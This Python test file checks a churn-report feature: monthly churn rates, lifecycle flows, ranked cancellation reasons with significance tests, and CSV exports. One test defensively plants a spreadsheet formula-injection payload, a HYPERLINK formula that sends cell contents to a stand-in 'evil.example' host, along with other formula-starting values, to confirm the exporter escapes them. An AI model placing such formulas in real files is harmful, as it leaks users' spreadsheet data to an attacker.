"""Churn reports against hand-counted histories: rates, reasons and their change, flows, open texts, CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from scipy.stats import chi2_contingency, fisher_exact
from sqlalchemy import select

from analytics.churn import churn_rates, lifecycle_flow
from analytics.churn_reasons import open_texts, reason_ranking, reasons_by_class
from customers.models import Customer, LifecycleChange
from surveys.models import ChurnReason, Invitation, Response, ResponseReason, Survey
from surveys.reasons import set_retired, update_reason
from tests.feedback_helpers import sign_in


def at(day: str) -> datetime:
    return datetime.fromisoformat(day).replace(hour=10, tzinfo=UTC)


def customer(session, external_id: str, value_class: str | None, phase: str = "existing") -> Customer:
    c = Customer(
        external_id=external_id,
        email=f"{external_id.lower()}@example.com",
        locale="de",
        created_at=at("2025-01-01"),
        value_class=value_class,
        lifecycle_phase=phase,
    )
    session.add(c)
    session.flush()
    return c


def moved(session, c: Customer, day: str, before: str | None, after: str, cause: str = "time") -> None:
    session.add(
        LifecycleChange(
            customer_id=c.id, from_phase=before, to_phase=after, changed_at=at(day), recorded_at=at(day), cause=cause
        )
    )


def reason(session, key: str) -> ChurnReason:
    return session.scalars(select(ChurnReason).where(ChurnReason.key == key)).one()


def churn_answer(session, c: Customer, day: str, keys: list[str], main: str | None = None, comment=None, comeback=None):
    survey = session.scalars(select(Survey).where(Survey.kind == "churn")).one()
    invitation = Invitation(
        token=f"t-{c.external_id}-{day}",
        survey_id=survey.id,
        customer_id=c.id,
        locale="de",
        status="answered",
        created_at=at(day),
        expires_at=at(day),
        sent_at=at(day),
        answered_at=at(day),
    )
    session.add(invitation)
    session.flush()
    response = Response(
        invitation_id=invitation.id,
        survey_id=survey.id,
        customer_id=c.id,
        score=None,
        comment=comment,
        comeback=comeback,
        locale="de",
        created_at=at(day),
    )
    main = main or (keys[0] if len(keys) == 1 else None)  # as the survey page stores a single reason
    response.reasons = [ResponseReason(reason_id=reason(session, k).id, main=k == main) for k in keys]
    session.add(response)
    session.flush()
    return response


@pytest.fixture
def history(session):
    """Four customers over five months of 2026 (see the expected figures in the tests)."""
    c1 = customer(session, "C1", "A", "churned")
    moved(session, c1, "2026-01-10", "potential", "new", "purchase")
    moved(session, c1, "2026-03-01", "new", "existing")
    moved(session, c1, "2026-04-15", "existing", "churned", "cancellation")
    c2 = customer(session, "C2", "A", "new")
    moved(session, c2, "2026-02-05", "potential", "new", "purchase")
    c3 = customer(session, "C3", "B", "new")
    moved(session, c3, "2025-12-01", None, "existing", "backfill")
    moved(session, c3, "2026-03-20", "existing", "inactive")
    moved(session, c3, "2026-05-02", "inactive", "new", "purchase")
    c4 = customer(session, "C4", "B", "churned")
    moved(session, c4, "2026-03-03", "potential", "new", "purchase")
    moved(session, c4, "2026-03-25", "new", "churned", "cancellation")
    session.commit()
    return c1, c2, c3, c4


def test_churn_rate_per_month_and_value_class(session, history):
    rows = churn_rates(session, date(2026, 1, 1), date(2026, 5, 31))
    overall = [(m.start.month, m.base, m.churned, m.rate, m.turned_inactive, m.reactivated)
               for m in rows if m.value_class is None]  # fmt: skip
    assert overall == [
        (1, 1, 0, 0.0, 0, 0),
        (2, 2, 0, 0.0, 0, 0),
        (3, 3, 1, 33.33, 1, 0),
        (4, 3, 1, 33.33, 0, 0),
        (5, 2, 0, 0.0, 0, 1),
    ]
    by_class = {(m.start.month, m.value_class): (m.base, m.churned, m.rate) for m in rows if m.value_class}
    assert by_class[(3, "B")] == (1, 1, 100.0)
    assert by_class[(4, "A")] == (2, 1, 50.0)
    assert (1, "A") not in by_class  # nobody in class A yet: no row, the month's total row is still there
    only_b = churn_rates(session, date(2026, 3, 1), date(2026, 4, 30), segment="B")
    assert [(m.value_class, m.base, m.churned) for m in only_b] == [(None, 1, 1), (None, 1, 0)]


def test_no_history_gives_empty_months_not_errors(session):
    rows = churn_rates(session, date(2026, 1, 1), date(2026, 2, 28))
    assert [(m.start, m.base, m.churned, m.rate) for m in rows if m.value_class is None] == [
        (date(2026, 1, 1), 0, 0, None),
        (date(2026, 2, 1), 0, 0, None),
    ]
    assert reason_ranking(session, date(2026, 1, 1), date(2026, 2, 28)) == []
    assert open_texts(session, date(2026, 1, 1), date(2026, 2, 28)) == []


def test_lifecycle_flow_per_month(session, history):
    flow = lifecycle_flow(session, date(2026, 1, 1), date(2026, 5, 31))
    assert flow.transitions == [
        ("potential", "new"),
        ("new", "existing"),
        ("new", "churned"),
        ("existing", "inactive"),
        ("existing", "churned"),
        ("inactive", "new"),
    ]
    march = date(2026, 3, 1)
    assert [flow.count(march, t) for t in flow.transitions] == [1, 1, 1, 1, 0, 0]
    assert flow.count(date(2026, 4, 1), ("existing", "churned")) == 1


def test_reasons_ranked_with_shares_and_a_tested_change(session, history):
    c1, c2, c3, c4 = history
    # Previous period (2026-01-01 .. 2026-02-28, same length as the report's 59 days): 4 answers.
    for i, day in enumerate(["2026-01-05", "2026-01-20", "2026-02-03", "2026-02-20"]):
        c = customer(session, f"P{i}", "C")
        churn_answer(session, c, day, ["price"] if i == 0 else ["delivery"])
    # Report period 2026-03-01 .. 2026-04-28: 5 answers.
    churn_answer(session, c1, "2026-04-16", ["price", "competitor"], main="competitor", comment="Zu teuer")
    churn_answer(session, c4, "2026-03-26", ["price"], comment="Preis", comeback="Rabatt")
    for i, day in enumerate(["2026-03-05", "2026-03-06", "2026-04-01"]):
        c = customer(session, f"R{i}", None)
        churn_answer(session, c, day, ["price", "service"] if i < 2 else ["other"], comment=None)
    session.commit()

    figures = reason_ranking(session, date(2026, 3, 1), date(2026, 4, 28))
    summary = [(f.reason.key, f.mentions, f.main, f.share, f.previous_share, f.change) for f in figures]
    assert summary == [
        ("price", 4, 1, 80.0, 25.0, 55.0),
        ("service", 2, 0, 40.0, 0.0, 40.0),
        ("competitor", 1, 1, 20.0, 0.0, 20.0),
        ("other", 1, 1, 20.0, 0.0, 20.0),
        ("delivery", 0, 0, 0.0, 75.0, -75.0),
    ]
    price = figures[0]
    assert price.p_value == pytest.approx(fisher_exact([[4, 1], [1, 3]]).pvalue)
    assert not price.significant

    grid = reasons_by_class(session, date(2026, 3, 1), date(2026, 4, 28))
    assert grid.answers == {"A": 1, "B": 1, "": 3}
    assert grid.share("", reason(session, "service").id) == pytest.approx(66.7)
    assert grid.share("A", reason(session, "competitor").id) == 100.0

    groups = open_texts(session, date(2026, 3, 1), date(2026, 4, 28))
    assert [(r.key if r else None, [t.comment for t in texts]) for r, texts in groups] == [
        ("price", ["Preis"]),
        ("competitor", ["Zu teuer"]),
    ]
    assert groups[0][1][0].comeback == "Rabatt"


def test_a_large_shift_is_significant_by_chi_square(session):
    for i in range(60):
        c = customer(session, f"X{i}", "B")
        churn_answer(
            session, c, "2026-02-10" if i < 30 else "2026-03-10", ["price"] if i < 5 or i >= 35 else ["delivery"]
        )
    session.commit()
    [delivery, price] = sorted(reason_ranking(session, date(2026, 3, 1), date(2026, 3, 31)), key=lambda f: f.reason.key)
    assert (price.mentions, price.previous_mentions, price.answers, price.previous_answers) == (25, 5, 30, 30)
    assert price.p_value == pytest.approx(chi2_contingency([[25, 5], [5, 25]]).pvalue)
    assert price.significant and delivery.significant


def test_renamed_and_retired_reasons_still_count_in_the_report(session, history, staff):
    c1, *_ = history
    churn_answer(session, c1, "2026-04-16", ["price"], comment="teuer")
    price = reason(session, "price")
    update_reason(
        session, price, {"label_de": "Preis zu hoch", "label_en": "Too expensive"}, staff.id, at("2026-05-01")
    )
    set_retired(session, price, True, staff.id, at("2026-05-01"))
    session.commit()
    [figure] = reason_ranking(session, date(2026, 4, 1), date(2026, 4, 30))
    assert (figure.reason.label("en"), figure.mentions, figure.reason.retired_at is not None) == (
        "Too expensive",
        1,
        True,
    )


def test_churn_page_and_csv_exports(session, history, client, staff):
    c1, *_ = history
    churn_answer(session, c1, "2026-04-16", ["price", "competitor"], main="competitor", comment="Zu teuer")
    session.commit()
    sign_in(client, staff)
    page = client.get("/reports/churn?from=2026-01-01&to=2026-05-31", headers={"Accept-Language": "en"})
    assert page.status_code == 200
    assert 'data-reason="competitor"' in page.text and "Zu teuer" in page.text
    assert "Switched to a competitor" in page.text
    rates = client.get("/reports/churn.csv?from=2026-01-01&to=2026-05-31&table=rates")
    assert rates.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(rates.text)))
    april = [r for r in rows if r["month"] == "2026-04-01" and r["value_class"] == "all"]
    assert april == [{"month": "2026-04-01", "value_class": "all", "base": "3", "churned": "1",
                      "churn_rate": "33.33", "turned_inactive": "0", "reactivated": "0"}]  # fmt: skip
    reasons = list(
        csv.DictReader(io.StringIO(client.get("/reports/churn.csv?from=2026-04-01&to=2026-04-30&table=reasons").text))
    )
    assert [(r["reason_key"], r["mentions"], r["main"], r["share"]) for r in reasons] == [
        ("competitor", "1", "1", "100.0"),
        ("price", "1", "0", "100.0"),
    ]
    flow = client.get("/reports/churn.csv?from=2026-03-01&to=2026-03-31&table=flow").text
    assert "2026-03-01,existing,inactive,1" in flow
    texts = client.get("/reports/churn.csv?from=2026-04-01&to=2026-04-30&table=texts").text
    assert "Switched to a competitor" in texts and "Zu teuer" in texts
    bad = client.get("/reports/churn.csv?table=nonsense")
    assert bad.status_code == 422 and "table: one of" in bad.text
    assert client.get("/reports/churn?from=gestern").status_code == 422


def test_no_csv_cell_starts_a_formula(session, history, client, staff):
    """A comment or a reason label that a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+`, `-`, tab) is
    written with a leading apostrophe; numbers stay numbers."""
    c1, *_ = history
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    price = reason(session, "price")
    price.label_de, price.label_en = "@SUM(1+1)", "-2+3"
    churn_answer(session, c1, "2026-04-16", ["price"], comment=evil, comeback="\t=1+1")
    session.commit()
    sign_in(client, staff)
    for table in ("texts", "reasons", "rates"):
        text = client.get(f"/reports/churn.csv?from=2026-04-01&to=2026-04-30&table={table}").text
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (table, cell)
    texts = client.get("/reports/churn.csv?from=2026-04-01&to=2026-04-30&table=texts").text
    assert "'" + evil.replace('"', '""') in texts


def test_the_csv_writer_quotes_formulas_and_keeps_numbers():
    from kundenpuls.csvfile import csv_text, safe_cell

    assert [safe_cell(v) for v in ("=1+1", "+49 171", "-x", "@A1", "\tcmd", "\rcmd")] == [
        "'=1+1", "'+49 171", "'-x", "'@A1", "'\tcmd", "'\rcmd"
    ]  # fmt: skip
    assert [safe_cell(v) for v in ("-12.5", "+3", "1e5", -4, 2.5, None, "Zu teuer")] == [
        "-12.5", "+3", "1e5", -4, 2.5, "", "Zu teuer"
    ]  # fmt: skip
    assert csv_text([["a", "=b"]]) == "a,'=b\r\n"
